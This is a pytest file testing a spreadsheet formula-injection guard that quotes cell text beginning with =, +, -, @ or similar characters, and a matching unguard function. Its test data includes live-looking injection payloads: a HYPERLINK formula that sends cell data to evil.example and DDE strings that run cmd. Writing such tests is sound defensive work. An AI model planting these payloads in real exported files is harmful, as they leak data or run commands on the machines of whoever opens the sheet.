"""No text of a stranger is a formula in a sheet, and what was guarded comes back as it was."""

import pytest

from schemas.values.sheet_cells import guarded, unguarded


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "'=1+1", "''@x", "=", "+", "-",
    ],
)  # fmt: skip
def test_a_formula_is_guarded_and_comes_back(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text
    assert unguarded(guarded(guarded(text))) == guarded(text)


@pytest.mark.parametrize(
    "text", ["", "Anna", "+31 (6) 1234-5678", "+31612345678", "-12.50", "'t Hof", "'", "1=1", " =1", "a@b.nl"]
)
def test_all_else_is_as_it_is(text: str) -> None:
    assert guarded(text) == unguarded(text) == text
